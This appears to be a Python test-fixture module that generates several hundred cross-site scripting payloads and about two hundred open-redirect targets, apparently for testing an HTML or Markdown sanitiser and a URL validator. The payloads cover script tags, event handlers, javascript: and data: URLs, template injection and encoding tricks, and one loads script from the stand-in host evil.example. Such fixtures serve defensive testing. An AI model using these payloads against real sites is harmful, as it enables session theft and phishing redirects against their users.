"""T1 and T29: three hundred texts that want to become script, two hundred targets that want to lead elsewhere."""

from itertools import product

CALL = "alert(1)"
MARKUP = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/x.js></script>", "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\x0c>{}</script>", "<script/x>{}</script>", "<script>{}//", "<svg><script>{}</script></svg>", "<svg><script xlink:href=data:,{} />",
    "<math><mtext><script>{}</script></mtext></math>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<template><script>{}</script></template>",
    "<style>@import'javascript:{}';</style>", "<style><img src=\"</style><img src=x onerror={}>\">", "<title><img src=\"</title><img src=x onerror={}>\">",
    "<textarea><img src=\"</textarea><img src=x onerror={}>\">", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "\"><script>{}</script>", "'><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "<!--><script>{}</script>",
    "<![CDATA[><script>{}</script>]]>", "<xmp><p title=\"</xmp><svg/onload={}>\">", "<base href=javascript:{}//>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=javascript:{}>", "<iframe src=javascript:{}>", "<iframe srcdoc='<script>{}</script>'>", "<embed src=javascript:{}>",
    "<object data=javascript:{}>", "<object data='data:text/html,<script>{}</script>'>", "<form action=javascript:{}><button>x", "<isindex action=javascript:{}>",
    "<button formaction=javascript:{} form=x>x", "<a href=javascript:{}>x</a>", "<a href='java&#x73;cript:{}'>x</a>", "<a href='java\tscript:{}'>x</a>",
    "<a href='\x01javascript:{}'>x</a>", "<a href=data:text/html,<script>{}</script>>x</a>", "<area href=javascript:{}>", "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>",
    "<math href=javascript:{}>x</math>", "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to={}>", "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>", "<x style=behavior:url(javascript:{})>",
]  # fmt: skip
TAGS = "img svg body input video audio details iframe object marquee select textarea keygen x div form isindex math style".split()
EVENTS = "onerror onload onfocus onmouseover onclick ontoggle onstart onanimationstart onpageshow onpointerover".split()
MARKDOWN = [
    "[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x](java\tscript:{})", "[x](&#106;avascript:{})", "[x](data:text/html,<script>{}</script>)", "[x](vbscript:{})",
    "[x](<javascript:{}>)", "[x]: javascript:{}\n\n[x]", "<javascript:{}>", "![x](x\"onerror=\"{})", "![x](javascript:{})", "[x](x 'onmouseover={}')",
    "`<script>{}</script>`", "```\n<script>{}</script>\n```", "    <script>{}</script>", "> <script>{}</script>", "- <img src=x onerror={}>",
    "# <img src=x onerror={}>", "<a\n href=javascript:{}>x</a>", "[a](javascript://%0a{})", "[x](\\javascript:{})", "[<img src=x onerror={}>](https://example.org)",
    "<https://example.org/\"onmouseover={}>", "[x](https://example.org/\"onmouseover=\"{})", "**<b onmouseover={}>x</b>**", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;", "\\<script>{}\\</script>", "<div\nonmouseover={}\n>", "|<img src=x onerror={}>|\n|-|\n|x|",
]  # fmt: skip
OTHERS = [
    "\" onmouseover={} x=\"", "' onfocus={} autofocus x='", "` onload={} `", "javascript:{}", "JAVASCRIPT:{}", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}",
    "'-{}-'", "\"-{}-\"", "';{}//", "\";{}//", "${{{}}}", "{{{{constructor.constructor('{}')()}}}}", "{{%{}%}}", "#{{{}}}", "<%= {} %>", "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e", "<\u0073cript>{}</script>", "<img src=x onerror=\\u0061lert(1) {}>", "</script><script>{}</script>", "<!--#exec cmd={} -->",
    "<?xml-stylesheet href='javascript:{}'?>", "%3Cscript%3E{}%3C/script%3E", "&quot;onmouseover=&quot;{}",
]  # fmt: skip
EVENT_TAGS = [
    f"<{tag} src=x {event}={CALL} autofocus open>"
    for tag, event in [*product(TAGS[:8], EVENTS), *product(TAGS[8:], EVENTS[:6])]
]
SEPARATED = [f"<img{gap}src=x{gap}onerror={CALL}>" for gap in ("/", "\n", "\t", "\x0c", "\r", " / ", "/x/")]
ENCODED = [
    f"<img src=x onerror={text}>"
    for text in ("&#97;lert(1)", "'alert`1`'", "top['al'+'ert'](1)", "eval(atob('YWxlcnQoMSk='))")
]
PLACED = [text.replace("{}", CALL).replace("{{", "{").replace("}}", "}") for text in (*MARKUP, *MARKDOWN, *OTHERS)]
QUOTED = [f"{mark}>{text}" for mark, text in product(('"', "'", "`", "</a", "</h1"), EVENT_TAGS[:14])]
SCRIPTS = list(dict.fromkeys([*PLACED, *EVENT_TAGS, *SEPARATED, *ENCODED, *QUOTED]))

_HOSTS = [
    "evil.example",
    "evil.example:80",
    "evil.example%2f",
    "127.0.0.1.evil.example",
    "user@evil.example",
    "[::ffff:1.2.3.4]",
    "1.2.3.4",
    "3232235777",
    "evil。example",
]
_STARTS = [
    "//", "///", "////", "/\\", "\\/", "\\\\", "/\\/", "http://", "https://", "http:", "https:", "HTTP://", "hTTps:///", "/\t/", "/\n/", "/\r/",
    "\t//", " //", "/%09/", "/%2f", "/%5c", "/./", "/../", "/;/", "/@", "//;@", "//%00@", "ftp://", "data:text/html,", "javascript:location='//", "/account//",
]  # fmt: skip
TARGETS = list(dict.fromkeys(
    [start + host for start, host in product(_STARTS, _HOSTS[:7])] + [f"//{host}/account" for host in _HOSTS] + [f"/account\\@{host}" for host in _HOSTS]
))  # fmt: skip
